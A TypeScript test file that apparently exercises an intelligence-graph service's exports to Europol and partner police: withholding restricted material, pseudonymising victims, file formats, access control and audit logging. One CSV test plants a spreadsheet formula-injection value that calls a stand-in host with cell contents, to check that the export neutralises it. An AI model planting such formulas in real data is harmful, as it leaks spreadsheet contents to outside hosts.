import { spawnSync } from 'node:child_process';

import { strFromU8, unzipSync } from 'fflate';
import neo4j from 'neo4j-driver';

import { contentHash, sha256Hex } from '../../../src/exports/content-hash';
import { parseJsonExport } from '../../../src/exports/json-export';
import { splitCypherScript } from '../../../src/exports/split-cypher-script';
import { buildTwoGroups, type TwoGroups } from '../../fixtures/two-groups';
import { codes, postGraphQL } from '../../support/http';
import { resetGraph } from '../../support/reset-graph';
import { elements, parseXmlStrictly } from '../../support/strict-xml';
import { startTestNeo4j } from '../../support/test-neo4j';
import { startTestService, type TestService } from '../../support/test-service';
import { testToken } from '../../support/tokens';

const ingest = { roles: ['INGEST' as const, 'ANALYST' as const], clearance: 'H3' as const, ukConditional: true };
const liaison = { roles: ['LIAISON' as const], clearance: 'H3' as const, ukConditional: true, subject: 'liaison-1' };

describe('exports for the Europol liaison', () => {
  let svc: TestService;
  let w: TwoGroups;

  beforeAll(async () => {
    svc = await startTestService();
    await resetGraph(svc.graph);
    const writer = await svc.sdk(ingest);
    w = await buildTwoGroups(writer);
    // Restricted, but the provider consented: it may leave, and makes the package H2.
    await writer.Link({ type: 'ASSOCIATE_OF', from: w.marian, to: w.ion, properties: { kind: 'FAMILY' }, provenance: { reportId: w.reports.restricted, consent: true } });
  });
  afterAll(() => svc.close());

  // Three hops from the operation reach the victim of the group it targets.
  async function exportAs(format: 'JSON' | 'GRAPHML' | 'CSV' | 'ANX' | 'CYPHER') {
    const sdk = await svc.sdk(liaison);
    const { exportSubgraph } = await sdk.ExportForEuropol({ operationId: w.operation, format, depth: 3 });
    const res = await fetch(new URL(exportSubgraph.downloadUrl, svc.url), { headers: { authorization: `Bearer ${await testToken(liaison)}` } });
    expect(res.status).toBe(200);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect(sha256Hex(bytes)).toBe(exportSubgraph.sha256);
    return { result: exportSubgraph, bytes };
  }

  it('answers question 10 in our JSON format: H2/H3 left out unless consented, counted, victims pseudonymised, hash matching the content', async () => {
    const { result, bytes } = await exportAs('JSON');
    const pkg = parseJsonExport(bytes);
    expect(pkg.manifest).toMatchObject({ exportedBy: { subject: 'liaison-1' }, recipient: { kind: 'EUROPOL', name: 'Europol' }, pseudonymised: true });
    expect(result.contentSha256).toBe(contentHash(pkg.subgraph));
    const items = [...pkg.subgraph.nodes, ...pkg.subgraph.edges];
    expect(items.every((i) => (['H0', 'H1'].includes(i.provenance.handling) && i.provenance.ukHandling === 'P') || i.provenance.consent)).toBe(true);
    expect(pkg.subgraph.edges.some((e) => e.type === 'ASSOCIATE_OF' && e.provenance.consent)).toBe(true);
    expect(result.packageHandling).toEqual({ handling: 'H2', ukHandling: 'C' });
    expect(result.leftOut).toEqual([{ reason: "H2 material without the provider's consent", nodes: 0, edges: 1 }]);
    const text = bytes.toString('utf8');
    for (const secret of ['Elena Radu', 'Pham Thi Hoa', '2006-02-01', w.elena, '+447700900003']) expect(text).not.toContain(secret);
    const victim = pkg.subgraph.nodes.find((n) => n.roles.includes('VICTIM'))!;
    expect(victim.id).toMatch(/^V-[0-9A-Z]{8}$/);
    expect(victim.redacted).toBe(true);
  });

  it('counts what was left out only where the export looked: not around the last depth, a country it does not expand, or outside the chosen nodes', async () => {
    const writer = await svc.sdk(ingest);
    const secret = (
      await writer.UpsertReport({ input: { reference: 'NCA/2024/0777', agency: 'NCA', handling: 'H3', gradeSource: 2, gradeIntel: 'B', ukHandling: 'C', reportedOn: '2024-01-05' } })
    ).upsertIntelligenceReport.id;
    const person = async (name: string, reportId: string) => (await writer.UpsertPerson({ input: { name, roles: ['OFFENDER'], nationalities: ['AL'], provenance: { reportId } } })).upsertPerson.id;
    const open = await person('Open Albanian', w.reports.nca);
    // Restricted, without consent: neither it nor its links may leave.
    const hidden = await person('Hidden Albanian', secret);
    const associate = await person('Secret Associate', secret);
    await writer.Link({ type: 'ASSOCIATE_OF', from: open, to: associate, properties: { kind: 'ASSOCIATE' }, provenance: { reportId: secret } });
    const sdk = await svc.sdk(liaison);
    const exported = async (input: { seeds?: string[]; depth?: number; nodeIds?: string[] }) =>
      (await sdk.ExportSubgraph({ input: { ...input, recipient: { kind: 'EUROPOL', name: 'Europol' }, purpose: 'left-out counts', format: 'JSON' } })).exportSubgraph;
    const H3 = "H3 material without the provider's consent";
    // One hop: the associate and its link were looked at and kept out; Albania was reached but not
    // expanded, so its other (restricted) nationals are not counted.
    const oneHop = await exported({ seeds: [open], depth: 1 });
    expect(oneHop.leftOut).toEqual([{ reason: H3, nodes: 1, edges: 1 }]);
    // The chosen node alone: what lies outside the choice was not asked for.
    expect((await exported({ nodeIds: [open] })).leftOut).toEqual([]);
    // Chosen with the hidden person: that one is counted, asked for and kept out.
    expect((await exported({ nodeIds: [open, hidden] })).leftOut).toEqual([{ reason: H3, nodes: 1, edges: 0 }]);
  });

  it('leaves out an identifier a victim holds only through what may not leave: withheld, it would tell the partner a victim holds it', async () => {
    const writer = await svc.sdk(ingest);
    const secret = (
      await writer.UpsertReport({ input: { reference: 'NCA/2024/0778', agency: 'NCA', handling: 'H3', gradeSource: 2, gradeIntel: 'B', ukHandling: 'C', reportedOn: '2024-01-05' } })
    ).upsertIntelligenceReport.id;
    const offender = (await writer.UpsertPerson({ input: { name: 'Phone Sharing Offender', roles: ['OFFENDER'], provenance: { reportId: w.reports.nca } } })).upsertPerson.id;
    const victim = (await writer.UpsertPerson({ input: { name: 'Phone Sharing Victim', roles: ['VICTIM'], provenance: { reportId: w.reports.nca } } })).upsertPerson.id;
    const phone = (await writer.UpsertIdentifier({ input: { kind: 'Phone', value: '07700 900321', provenance: { reportId: w.reports.nca } } })).upsertIdentifier.id;
    await writer.Link({ type: 'HAS_IDENTIFIER', from: offender, to: phone, properties: {}, provenance: { reportId: w.reports.nca } });
    // The victim's holding is known from a covert source only.
    await writer.Link({ type: 'HAS_IDENTIFIER', from: victim, to: phone, properties: {}, provenance: { reportId: secret } });
    const sdk = await svc.sdk(liaison);
    const exported = async (input: { seeds?: string[]; depth?: number; nodeIds?: string[] }) =>
      (await sdk.ExportSubgraph({ input: { ...input, recipient: { kind: 'EUROPOL', name: 'Europol' }, purpose: 'held identifiers', format: 'JSON' } })).exportSubgraph;
    const reason = 'an identifier linked to material that may not leave';
    for (const result of [await exported({ seeds: [offender], depth: 1 }), await exported({ nodeIds: [offender, phone] })]) {
      const doc = JSON.parse(result.content!) as { nodes: { id: string; type: string; redacted: boolean }[]; edges: unknown[] };
      expect(doc.nodes.map((n) => n.type)).toEqual(['Person']);
      expect(doc.edges).toEqual([]);
      expect(result.leftOut).toContainEqual({ reason, nodes: 1, edges: 0 });
      expect(result.content).not.toContain('900321');
    }
    // Held by another victim where the provider consents to it leaving: the phone leaves, withheld.
    const another = (await writer.UpsertPerson({ input: { name: 'Consented Victim', roles: ['VICTIM'], provenance: { reportId: w.reports.nca } } })).upsertPerson.id;
    await writer.Link({ type: 'HAS_IDENTIFIER', from: another, to: phone, properties: {}, provenance: { reportId: secret, consent: true } });
    const consented = JSON.parse((await exported({ seeds: [offender], depth: 1 })).content!) as { nodes: { type: string; redacted: boolean }[] };
    expect(consented.nodes.find((n) => n.type === 'Phone')).toMatchObject({ redacted: true });
  });

  it('says the depth limit stopped it when the depth asked for is beyond the service’s, and there is more beyond', async () => {
    const shallow = await startTestService({ MSHT_MAX_TRAVERSAL_DEPTH: '1' });
    try {
      const sdk = await shallow.sdk(liaison);
      const exported = async (depth: number) => (await sdk.ExportForEuropol({ operationId: w.operation, format: 'JSON', depth })).exportSubgraph;
      const cut = await exported(3);
      const doc = JSON.parse(cut.content!) as { truncated: boolean; truncatedBy: string | null; manifest: { query: { depth: number } } };
      expect(doc).toMatchObject({ truncated: true, truncatedBy: 'DEPTH', manifest: { query: { depth: 1 } } });
      expect(cut.leftOut).toContainEqual({ reason: "the depth asked for is beyond the service's limit of 1 hops: the export stops there, and more may lie beyond", nodes: 0, edges: 0 });
      // Asked for what the service allows: complete as far as it was asked.
      const asked = JSON.parse((await exported(1)).content!) as { truncated: boolean; truncatedBy: string | null };
      expect(asked).toMatchObject({ truncated: false, truncatedBy: null });
    } finally {
      await shallow.close();
    }
  });

  it('gives each recipient its own stable pseudonyms and link ids, so two partners cannot join their copies', async () => {
    const sdk = await svc.sdk(liaison);
    const exported = async (recipient: { kind: 'EUROPOL' | 'PARTNER_COUNTRY'; name: string; country?: string }) => {
      const { exportSubgraph } = await sdk.ExportSubgraph({ input: { seeds: [w.operation], depth: 3, recipient, purpose: 'test', format: 'JSON' } });
      const { nodes, edges } = parseJsonExport(exportSubgraph.content!).subgraph;
      const victim = nodes.find((n) => n.roles.includes('VICTIM'))!.id;
      return { victim, edges, victimLinks: edges.filter((e) => e.source === victim || e.target === victim).map((e) => e.id).sort() };
    };
    const europol = await exported({ kind: 'EUROPOL', name: 'Europol' });
    const again = await exported({ kind: 'EUROPOL', name: 'Europol' });
    const romania = await exported({ kind: 'PARTNER_COUNTRY', name: 'Policia Romana', country: 'RO' });
    expect(again.victim).toBe(europol.victim);
    expect(romania.victim).not.toBe(europol.victim);
    // A link's id is stable for one recipient and differs between recipients: the victim's links
    // would otherwise tie its two pseudonyms together.
    expect(europol.victimLinks.length).toBeGreaterThan(0);
    expect(again.edges.map((e) => e.id).sort()).toEqual(europol.edges.map((e) => e.id).sort());
    expect(romania.victimLinks.filter((id) => europol.victimLinks.includes(id))).toEqual([]);
    expect(romania.edges.filter((e) => europol.edges.some((x) => x.id === e.id))).toEqual([]);
    // No database element id leaves (it names the database), and ids stay unique.
    for (const e of [...europol.edges, ...romania.edges]) expect(e.id).toMatch(/^L-[0-9A-Z]{16}$/);
    expect(new Set(europol.edges.map((e) => e.id)).size).toBe(europol.edges.length);
  });

  it('writes GraphML that networkx reads with the same counts', async () => {
    const { result, bytes } = await exportAs('GRAPHML');
    const py = spawnSync('python3', ['-c', 'import sys, networkx as nx; g = nx.read_graphml(sys.stdin.buffer); print(g.number_of_nodes(), g.number_of_edges())'], { input: bytes });
    expect(py.status).toBe(0);
    expect(py.stdout.toString().trim()).toBe(`${result.nodes} ${result.edges}`);
    expect(bytes.toString('utf8')).not.toContain('Pham Thi Hoa');
  });

  it('writes an i2 ANX chart that is well-formed with every link’s ends among its entities', async () => {
    const { result, bytes } = await exportAs('ANX');
    const xml = parseXmlStrictly(bytes.toString('utf8'));
    const items = elements(xml, 'ChartItem');
    const entityIds = new Set(elements(xml, 'Entity').map((e) => e.getAttribute('EntityId')));
    const links = elements(xml, 'Link');
    expect(entityIds.size).toBe(result.nodes);
    expect(links).toHaveLength(result.edges);
    for (const l of links) {
      expect(entityIds.has(l.getAttribute('End1Id'))).toBe(true);
      expect(entityIds.has(l.getAttribute('End2Id'))).toBe(true);
    }
    expect(items.length).toBe(result.nodes + result.edges);
  });

  it('writes CSV nodes and edges in one archive, with headers', async () => {
    const { result, bytes } = await exportAs('CSV');
    const files = unzipSync(new Uint8Array(bytes));
    const lines = (name: string) => strFromU8(files[name]!).replace(/^\uFEFF/, '').trim().split(/\r?\n/);
    expect(lines('nodes.csv').length).toBe(result.nodes + 1);
    expect(lines('edges.csv').length).toBe(result.edges + 1);
    expect(JSON.parse(strFromU8(files['manifest.json']!)).sha256).toBe(result.contentSha256);
  });

  it('writes CSV text a spreadsheet would run as a formula as text, and phone numbers as they are', async () => {
    const writer = await svc.sdk(ingest);
    const formula = '=HYPERLINK("http://x.example/?q="&A1,"open")';
    const who = (await writer.UpsertPerson({ input: { name: formula, roles: ['OFFENDER'], provenance: { reportId: w.reports.nca } } })).upsertPerson.id;
    const phone = (await writer.UpsertIdentifier({ input: { kind: 'Phone', value: '+44 7700 900777', provenance: { reportId: w.reports.nca } } })).upsertIdentifier.id;
    await writer.Link({ type: 'HAS_IDENTIFIER', from: who, to: phone, provenance: { reportId: w.reports.nca } });
    const sdk = await svc.sdk(liaison);
    const { exportSubgraph } = await sdk.ExportSubgraph({ input: { seeds: [who], depth: 1, recipient: { kind: 'EUROPOL', name: 'Europol' }, purpose: 'formula guard', format: 'CSV' } });
    const res = await fetch(new URL(exportSubgraph.downloadUrl, svc.url), { headers: { authorization: `Bearer ${await testToken(liaison)}` } });
    const nodesCsv = strFromU8(unzipSync(new Uint8Array(await res.arrayBuffer()))['nodes.csv']!);
    expect(nodesCsv).toContain(`"'=HYPERLINK(""http://x.example/?q=""&A1,""open"")"`);
    expect(nodesCsv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(nodesCsv).toMatch(/(^|,)\+447700900777(,|\r)/m);
  });

  it('writes a Cypher script that recreates the same subgraph in an empty Neo4j', async () => {
    const { result, bytes } = await exportAs('CYPHER');
    const partner = await startTestNeo4j();
    const driver = neo4j.driver(partner.uri);
    try {
      for (const statement of splitCypherScript(bytes.toString('utf8'))) await driver.executeQuery(statement);
      const counts = await driver.executeQuery('MATCH (n) WITH count(n) AS nodes OPTIONAL MATCH ()-[r]->() RETURN nodes, count(r) AS rels');
      expect(counts.records[0]!.get('nodes').toNumber()).toBe(result.nodes);
      expect(counts.records[0]!.get('rels').toNumber()).toBe(result.edges);
    } finally {
      await driver.close();
      await partner.dispose();
    }
  }, 600_000);

  it('refuses callers without the liaison role, and downloads to anyone but the exporter', async () => {
    const analyst = await svc.sdk({ roles: ['ANALYST'], clearance: 'H3' });
    await expect(analyst.ExportForEuropol({ operationId: w.operation })).rejects.toThrow(/LIAISON/);
    const { result } = await exportAs('JSON');
    const other = await fetch(new URL(result.downloadUrl, svc.url), { headers: { authorization: `Bearer ${await testToken({ roles: ['LIAISON'], subject: 'liaison-2' })}` } });
    expect(other.status).toBe(404);
  });

  it('records each export, with its manifest, in the audit trail', async () => {
    const { result } = await exportAs('JSON');
    await svc.app.auditLog.flush();
    const supervisor = await svc.sdk({ roles: ['SUPERVISOR', 'VICTIM_DATA_OFFICER'], clearance: 'H3', ukConditional: true });
    const { auditEvents } = await supervisor.AuditEvents({ filter: { subject: 'liaison-1', operationName: 'ExportForEuropol' }, first: 20 });
    const event = auditEvents.nodes.find((e) => e.export && JSON.parse(e.export).exportId === result.exportId)!;
    expect(event).toBeDefined();
    // An auditor finds the exports by what they are, whatever the client named its operation.
    const exports = (await supervisor.AuditEvents({ filter: { hasExport: true }, first: 100 })).auditEvents.nodes;
    expect(exports.length).toBeGreaterThan(0);
    expect(exports.every((e) => e.export !== null)).toBe(true);
    expect(exports.map((e) => e.seq)).toContain(event.seq);
    const others = (await supervisor.AuditEvents({ filter: { hasExport: false }, first: 100 })).auditEvents.nodes;
    expect(others.length).toBeGreaterThan(0);
    expect(others.some((e) => e.export !== null)).toBe(false);
    expect(JSON.parse(event.export!)).toMatchObject({ recipient: { kind: 'EUROPOL' }, sha256: result.contentSha256, counts: { nodes: result.nodes, edges: result.edges } });
  });
  it('refuses two exports in one operation before either leaves, so that the audit event records what did', async () => {
    const exported = async () => (await svc.graph.read({ cypher: 'MATCH (e:AuditExport) RETURN count(e) AS n', params: {} }))[0]!.n;
    await svc.app.auditLog.flush();
    const before = await exported();
    const one = '{ seeds: [$op], depth: 1, recipient: { kind: EUROPOL, name: "Europol" }, purpose: "twice", format: JSON }';
    const r = await postGraphQL(svc.url, liaison, {
      query: `mutation Twice($op: ID!) { a: exportSubgraph(input: ${one}) { exportId } ...More }
        fragment More on Mutation { b: exportSubgraph(input: ${one}) { exportId } }`,
      variables: { op: w.operation },
    });
    expect(r.body.data).toBeNull();
    expect(codes(r)).toEqual(['BAD_USER_INPUT']);
    expect(r.body.errors![0]!.message).toMatch(/one export per request/);
    await svc.app.auditLog.flush();
    expect(await exported()).toBe(before);
    // One of them, the other skipped: an export like any other.
    const skipped = await postGraphQL(svc.url, liaison, {
      query: `mutation Once($op: ID!, $no: Boolean!) { a: exportSubgraph(input: ${one}) { exportId } b: exportSubgraph(input: ${one}) @include(if: $no) { exportId } }`,
      variables: { op: w.operation, no: false },
    });
    expect(skipped.body.errors).toBeUndefined();
    expect((skipped.body.data as { a: { exportId: string } }).a.exportId).toEqual(expect.any(String));
  });

  it('imports a pseudonymised package: its withheld victim and phone come in under their pseudonyms, linked as exported', async () => {
    const { result } = await exportAs('JSON');
    expect(result.pseudonymised).toBe(true);
    const pkg = parseJsonExport(result.content!);
    const victim = pkg.subgraph.nodes.find((n) => n.roles.includes('VICTIM'))!;
    const { importBatch: s } = await (await svc.sdk(ingest)).ImportBatch({ format: 'JSON', nodes: result.content!.toString() });
    expect(s.rejected).toBe(0);
    const [row] = await svc.graph.read({ cypher: 'MATCH (p:Person:Victim {id: $id}) RETURN p.name AS name, COUNT { (p)--() } AS links', params: { id: `per-${victim.id}` } });
    expect(row).toEqual({ name: victim.id, links: pkg.subgraph.edges.filter((e) => e.source === victim.id || e.target === victim.id).length });
  });

  // Last: it empties the graph.
  it('takes its JSON export back: exported, imported into an empty graph, exported again, the same content', async () => {
    const sdk = await svc.sdk(liaison);
    const input = { seeds: [w.operation], depth: 2, recipient: { kind: 'UK_PARTNER' as const, name: 'Kent Police' }, purpose: 'round trip', format: 'JSON' as const };
    const first = (await sdk.ExportSubgraph({ input })).exportSubgraph;
    const pkg = parseJsonExport(first.content!);
    expect(pkg.subgraph.nodes.length).toBeGreaterThan(5);
    await resetGraph(svc.graph);
    const { importBatch: s } = await (await svc.sdk(ingest)).ImportBatch({ format: 'JSON', nodes: first.content!.toString() });
    // Reference data (countries, forces, vocabularies) is in every graph and left as it is.
    expect(s.nodes.created).toBeGreaterThan(0);
    expect(s.relationships.created).toBeGreaterThan(0);
    const second = parseJsonExport((await sdk.ExportSubgraph({ input })).exportSubgraph.content!).subgraph;
    const byId = <T extends { id: string }>(items: readonly T[]) => [...items].sort((a, b) => a.id.localeCompare(b.id));
    expect(byId(second.nodes)).toEqual(byId(pkg.subgraph.nodes));
    // A link's id comes from its type, ends and keys, not from the database: the same in the new graph.
    expect(byId(second.edges)).toEqual(byId(pkg.subgraph.edges));
    expect(contentHash(second)).toBe(first.contentSha256);
  });
});
